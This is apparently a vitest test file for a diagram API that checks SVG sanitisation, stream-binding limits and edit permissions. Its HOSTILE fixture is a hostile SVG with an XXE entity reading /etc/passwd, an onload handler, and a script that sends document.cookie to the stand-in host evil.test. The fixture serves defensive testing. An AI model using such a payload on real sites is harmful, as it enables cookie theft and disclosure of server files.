import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiPaths, DIAGRAM_TEXTS, type SyncedModel } from '@plant/shared-schema';
import { DEMO_USERS } from '../seed/demo';
import { startTestServer, type TestServer } from '../testing/harness';

/*
 * Process diagrams (issue 37 item 4) through the generic model routes: whatever markup a client
 * sends, the stored picture is the sanitised one (no script, no handler, no outside reference),
 * in the write's answer and in what every browser syncs; a diagram binds only its own asset's
 * data streams; who may not edit the asset may not draw on it.
 */
let s: TestServer;
let admin = '';
let tech = '';
let models: SyncedModel[] = [];

const NS = 'xmlns="http://www.w3.org/2000/svg"';
const HOSTILE =
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` +
  `<svg ${NS} xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 200 100" onload="alert(1)">` +
  `<script>fetch('https://evil.test/?' + document.cookie)</script>` +
  `<use xlink:href="https://evil.test/sprite.svg#pump"/>` +
  `<rect id="tank" width="50" height="40" style="fill:url(https://evil.test/p.png);stroke:#333"/>` +
  `<text id="temp" x="10" y="80">&xxe;</text></svg>`;
const CLEAN =
  `<svg ${NS} viewBox="0 0 200 100"><use/>` +
  `<rect id="tank" width="50" height="40" style="stroke:#333"/>` +
  `<text id="temp" x="10" y="80">&amp;xxe;</text></svg>`;

const assetNamed = (name: string) => {
  const found = models.find((m) => m.type === 'asset' && m.attributes.name === name);
  if (found === undefined) throw new Error(`no asset ${name}`);
  return found.id;
};
const streamOf = (assetId: string, index = 0) => {
  const found = models.filter((m) => m.type === 'datastream' && m.attributes.asset_id === assetId)[
    index
  ];
  if (found === undefined) throw new Error(`no stream ${index} of ${assetId}`);
  return found.id;
};
const post = (json: Record<string, unknown>, token = admin) =>
  s.call('POST', apiPaths.collection('diagrams'), { token, json });
const put = (id: string, json: Record<string, unknown>, token = admin) =>
  s.call('PUT', apiPaths.model('diagrams', id), { token, json });
const dataOf = (answer: { json: unknown }) => (answer.json as { data: SyncedModel }).data;
const fieldsOf = (answer: { json: unknown }) =>
  (answer.json as { errors?: Record<string, string[]> }).errors;

beforeAll(async () => {
  s = await startTestServer();
  admin = await s.signIn(DEMO_USERS.admin);
  tech = await s.signIn(DEMO_USERS.tech);
  models = await s.snapshot(admin);
});
afterAll(() => s.close());

describe('process diagrams', () => {
  it('stores an uploaded picture clean: no script, no handler, no outside reference', async () => {
    const asset = assetNamed('Press line 1');
    const made = await post({
      asset_id: asset,
      name: 'Hydraulics',
      svg: HOSTILE,
      bindings: [
        { element: 'temp', stream_id: streamOf(asset), show: 'value' },
        { element: 'tank', stream_id: streamOf(asset, 1), show: 'alarm' },
      ],
    });
    expect(made.status, made.text).toBe(201);
    expect(dataOf(made).attributes.svg).toBe(CLEAN);
    // What every browser syncs is the clean picture too.
    const synced = (await s.snapshot(tech)).find((m) => m.id === dataOf(made).id);
    expect(synced?.attributes.svg).toBe(CLEAN);
    expect(JSON.stringify(synced)).not.toMatch(/script|onload|evil\.test|ENTITY/);

    // An update of the picture alone is cleaned the same way.
    const changed = await put(dataOf(made).id, {
      svg: HOSTILE.replace('<rect', '<rect onclick="alert(2)"'),
    });
    expect(changed.status, changed.text).toBe(200);
    const after = (await s.snapshot(admin)).find((m) => m.id === dataOf(made).id);
    expect(after?.attributes.svg).toBe(CLEAN);
    // Markup without an SVG picture in it is refused, not stored empty.
    const none = await put(dataOf(made).id, { svg: '<html><script>alert(1)</script></html>' });
    expect(none.status).toBe(422);
    expect(fieldsOf(none)?.svg).toEqual([DIAGRAM_TEXTS.noSvg]);
  });

  it("refuses a binding to another asset's stream, or to no stream, with 422", async () => {
    const asset = assetNamed('Press line 1');
    const other = assetNamed('Press line 2');
    const foreign = await post({
      asset_id: asset,
      name: 'Borrowed',
      bindings: [{ element: 'temp', stream_id: streamOf(other), show: 'value' }],
    });
    expect(foreign.status).toBe(422);
    expect(fieldsOf(foreign)?.bindings).toEqual([DIAGRAM_TEXTS.streamOfOtherAsset]);
    const unknown = await post({
      asset_id: asset,
      name: 'Nowhere',
      bindings: [{ element: 'temp', stream_id: 'no-such-stream', show: 'value' }],
    });
    expect(unknown.status).toBe(422);

    // Added later by an update: refused the same way, the stored diagram unchanged.
    const made = await post({
      asset_id: asset,
      name: 'Own',
      bindings: [{ element: 'temp', stream_id: streamOf(asset), show: 'value' }],
    });
    expect(made.status, made.text).toBe(201);
    const added = await put(dataOf(made).id, {
      bindings: [
        { element: 'temp', stream_id: streamOf(asset), show: 'value' },
        { element: 'tank', stream_id: streamOf(other), show: 'alarm' },
      ],
    });
    expect(added.status).toBe(422);
    expect(fieldsOf(added)?.bindings).toEqual([DIAGRAM_TEXTS.streamOfOtherAsset]);
    const stored = (await s.snapshot(admin)).find((m) => m.id === dataOf(made).id);
    expect(stored?.attributes.bindings).toHaveLength(1);
  });

  it('keeps a binding whose stream was deleted since, so the picture can still be edited', async () => {
    const asset = assetNamed('Press line 1');
    const group = models.find(
      (m) => m.type === 'datastreamgroup' && m.attributes.asset_id === asset,
    );
    const stream = await s.call('POST', apiPaths.collection('datastreams'), {
      token: admin,
      json: { asset_id: asset, group_id: group?.id, name: 'Short-lived', unit: 'bar' },
    });
    expect(stream.status, stream.text).toBe(201);
    const made = await post({
      asset_id: asset,
      name: 'Outlived',
      bindings: [{ element: 'gauge', stream_id: dataOf(stream).id, show: 'value' }],
    });
    expect(made.status, made.text).toBe(201);
    const gone = await s.call('DELETE', apiPaths.model('datastreams', dataOf(stream).id), {
      token: admin,
    });
    expect(gone.status, gone.text).toBeLessThan(300);
    const edited = await put(dataOf(made).id, {
      name: 'Outlived, renamed',
      bindings: [
        { element: 'gauge', stream_id: dataOf(stream).id, show: 'value' },
        { element: 'temp', stream_id: streamOf(asset), show: 'value' },
      ],
    });
    expect(edited.status, edited.text).toBe(200);
  });

  it('is drawn by who edits the asset: one the technician only sees is refused', async () => {
    const seen = assetNamed('Press line 2'); // seen, not edited
    const edited = assetNamed('Press line 1'); // seen and edited
    expect((await post({ asset_id: seen, name: 'Not mine' }, tech)).status).toBe(403);
    const mine = await post({ asset_id: edited, name: 'Mine', svg: CLEAN }, tech);
    expect(mine.status, mine.text).toBe(201);
  });
});
